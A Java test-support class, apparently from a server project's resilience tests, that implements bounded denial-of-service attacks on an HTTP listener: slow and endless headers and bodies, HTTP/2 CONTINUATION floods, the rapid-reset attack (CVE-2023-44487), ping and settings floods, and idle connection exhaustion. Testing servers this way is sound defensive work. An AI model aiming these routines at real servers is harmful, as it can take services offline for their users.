package dev.tenon.testing.attack;

import static java.util.Objects.requireNonNull;

import dev.tenon.testing.attack.Result.End;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;

/**
 * A peer that wants to exhaust an HTTP listener without TLS. Each attack uses a connection of its
 * own and goes on until the listener answers or ends the connection, or until it has sent as much
 * as it was told. Thread-safe; attacks block.
 */
public final class HostilePeer {
  private static final int CHUNK_BYTES = 1 << 10;
  private static final int FRAMES_PER_WRITE = 50;
  private static final int CANCEL = 8;

  private final InetSocketAddress target;
  private final String path;
  private final String headers;

  /** One step of an attack. */
  private interface Step {
    void send(Wire wire, long number) throws IOException;
  }

  private HostilePeer(InetSocketAddress target, String path, String headers) {
    this.target = target;
    this.path = requireNonNull(path, "path");
    this.headers = headers;
  }

  /**
   * A peer of a listener.
   *
   * @param host where it listens
   * @param port where it listens
   * @param path where it takes a POST
   * @param headers what such a request must have: {@code name: value} each
   * @return the peer
   */
  public static HostilePeer of(String host, int port, String path, String... headers) {
    StringBuilder lines = new StringBuilder();
    for (String header : headers) {
      lines.append(header).append("\r\n");
    }
    return new HostilePeer(new InetSocketAddress(host, port), path, lines.toString());
  }

  /**
   * Attacks by many peers at once, and waits for their ends.
   *
   * @param peers how many
   * @param attack what each does
   * @return how each ended
   * @throws InterruptedException if the waiting thread is interrupted; the attacks end first
   * @throws ExecutionException if one could not attack
   */
  public static List<Result> atOnce(int peers, Callable<Result> attack)
      throws InterruptedException, ExecutionException {
    try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
      List<Result> results = new ArrayList<>();
      for (Future<Result> each : threads.invokeAll(Collections.nCopies(peers, attack))) {
        results.add(each.get());
      }
      return results;
    }
  }

  /**
   * HTTP/1.1 headers without end, as fast as they are taken.
   *
   * @param most how many bytes to send at most
   * @return how many bytes were sent
   * @throws IOException if there is no connection
   */
  public Result endlessHeaders(long most) throws IOException {
    try (Wire wire = new Wire(target)) {
      wire.text("POST " + path + " HTTP/1.1\r\nhost: x\r\n" + headers);
      return until(
          wire,
          most,
          CHUNK_BYTES,
          Duration.ZERO,
          (to, at) -> to.text("x-%d: %s\r\n".formatted(at, "a".repeat(CHUNK_BYTES - 20))));
    }
  }

  /**
   * Headers of one HTTP/2 request without end: CONTINUATION after CONTINUATION.
   *
   * @param most how many bytes to send at most
   * @return how many bytes of headers were sent
   * @throws IOException if there is no connection
   */
  public Result endlessContinuation(long most) throws IOException {
    try (Wire wire = new Wire(target)) {
      wire.preface();
      wire.frame(Wire.HEADERS, 0, 1, Wire.post(path));
      Result result =
          untilEnded(
              wire,
              most / CHUNK_BYTES,
              (to, at) -> {
                ByteArrayOutputStream block = new ByteArrayOutputStream();
                while (block.size() < CHUNK_BYTES) {
                  block.write(Wire.header("x-" + at, "a".repeat(100)));
                }
                to.frame(Wire.CONTINUATION, 0, 1, block.toByteArray());
              });
      return new Result(result.sent() * CHUNK_BYTES, result.end(), result.status());
    }
  }

  /**
   * HTTP/1.1 headers, a byte now and then.
   *
   * @param pace how long to rest after each byte
   * @param most how many bytes to send at most
   * @return how many bytes were sent
   * @throws IOException if there is no connection
   */
  public Result slowHeaders(Duration pace, long most) throws IOException {
    try (Wire wire = new Wire(target)) {
      wire.text("POST " + path + " HTTP/1.1\r\nhost: x\r\nx-slow: ");
      return until(wire, most, 1, pace, (to, at) -> to.text("a"));
    }
  }

  /**
   * An HTTP/1.1 body, a byte now and then.
   *
   * @param pace how long to rest after each byte
   * @param most how many bytes to send at most
   * @return how many bytes were sent
   * @throws IOException if there is no connection
   */
  public Result slowBody(Duration pace, long most) throws IOException {
    try (Wire wire = new Wire(target)) {
      wire.text(
          "POST "
              + path
              + " HTTP/1.1\r\nhost: x\r\n"
              + headers
              + "content-length: 1000000\r\n\r\n");
      return until(wire, most, 1, pace, (to, at) -> to.text("a"));
    }
  }

  /**
   * An HTTP/1.1 body that is too large, in chunks, so that its length is not known before.
   *
   * @param most how many bytes to send at most
   * @return how many bytes were sent
   * @throws IOException if there is no connection
   */
  public Result endlessBody(long most) throws IOException {
    try (Wire wire = new Wire(target)) {
      wire.text(
          "POST "
              + path
              + " HTTP/1.1\r\nhost: x\r\n"
              + headers
              + "transfer-encoding: chunked\r\n\r\n");
      String chunk = Integer.toHexString(CHUNK_BYTES) + "\r\n" + " ".repeat(CHUNK_BYTES) + "\r\n";
      return until(wire, most, CHUNK_BYTES, Duration.ZERO, (to, at) -> to.text(chunk));
    }
  }

  /**
   * HTTP/2 requests that are taken back at once (CVE-2023-44487).
   *
   * @param most how many requests to send at most
   * @return how many requests were sent
   * @throws IOException if there is no connection
   */
  public Result rapidResets(long most) throws IOException {
    byte[] block = Wire.post(path);
    try (Wire wire = new Wire(target)) {
      wire.preface();
      Result result =
          untilEnded(
              wire,
              most / FRAMES_PER_WRITE,
              (to, at) -> {
                ByteArrayOutputStream frames = new ByteArrayOutputStream();
                for (int i = 0; i < FRAMES_PER_WRITE; i++) {
                  int stream = (int) (1 + 2 * (at * FRAMES_PER_WRITE + i));
                  frames.write(Wire.frameBytes(Wire.HEADERS, Wire.END_HEADERS, stream, block));
                  frames.write(
                      Wire.frameBytes(Wire.RST_STREAM, 0, stream, new byte[] {0, 0, 0, CANCEL}));
                }
                to.bytes(frames.toByteArray());
              });
      return new Result(result.sent() * FRAMES_PER_WRITE, result.end(), result.status());
    }
  }

  /**
   * HTTP/2 pings, the answers of which are not read.
   *
   * @param most how many to send at most
   * @return how many were sent
   * @throws IOException if there is no connection
   */
  public Result pings(long most) throws IOException {
    return frames(Wire.frameBytes(Wire.PING, 0, 0, new byte[8]), most);
  }

  /**
   * HTTP/2 settings, the answers of which are not read.
   *
   * @param most how many to send at most
   * @return how many were sent
   * @throws IOException if there is no connection
   */
  public Result settings(long most) throws IOException {
    return frames(Wire.frameBytes(Wire.SETTINGS, 0, 0, new byte[0]), most);
  }

  /**
   * Opens connections and says nothing on them. The listener may close those that are too many.
   *
   * @param count how many
   * @return the connections; to be closed
   * @throws IOException if one cannot be opened
   */
  public Connections connect(int count) throws IOException {
    List<Wire> wires = new ArrayList<>();
    boolean all = false;
    try {
      for (int i = 0; i < count; i++) {
        wires.add(new Wire(target));
      }
      all = true;
      return new Connections(wires);
    } finally {
      if (!all) {
        wires.forEach(Wire::close);
      }
    }
  }

  private Result frames(byte[] frame, long most) throws IOException {
    ByteArrayOutputStream many = new ByteArrayOutputStream();
    for (int i = 0; i < FRAMES_PER_WRITE; i++) {
      many.write(frame);
    }
    try (Wire wire = new Wire(target)) {
      wire.preface();
      Result result =
          untilEnded(wire, most / FRAMES_PER_WRITE, (to, at) -> to.bytes(many.toByteArray()));
      return new Result(result.sent() * FRAMES_PER_WRITE, result.end(), result.status());
    }
  }

  /** Goes on until an answer comes or the connection ends. */
  private static Result until(Wire wire, long most, int unit, Duration pace, Step step) {
    long sent = 0;
    try {
      while (sent < most && !wire.heard() && !rest(wire, pace)) {
        step.send(wire, sent / unit);
        sent += unit;
      }
      if (sent >= most && !wire.heard()) {
        return new Result(sent, End.EXHAUSTED, Optional.empty());
      }
    } catch (IOException e) {
      return new Result(sent, End.STOPPED, wire.status());
    }
    return new Result(sent, End.STOPPED, wire.status());
  }

  /** Goes on until the connection ends, whatever comes. */
  private static Result untilEnded(Wire wire, long most, Step step) {
    long sent = 0;
    try {
      while (sent < most) {
        step.send(wire, sent);
        sent++;
      }
    } catch (IOException e) {
      return new Result(sent, End.STOPPED, Optional.empty());
    }
    return new Result(sent, wire.awaitEnd() ? End.STOPPED : End.EXHAUSTED, Optional.empty());
  }

  /** Rests, and says whether the connection ended meanwhile. */
  private static boolean rest(Wire wire, Duration pace) throws IOException {
    if (pace.isZero()) {
      return false;
    }
    try {
      TimeUnit.MILLISECONDS.sleep(pace.toMillis());
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IOException("interrupted", e);
    }
    return !wire.heard() && wire.isEnded();
  }
}
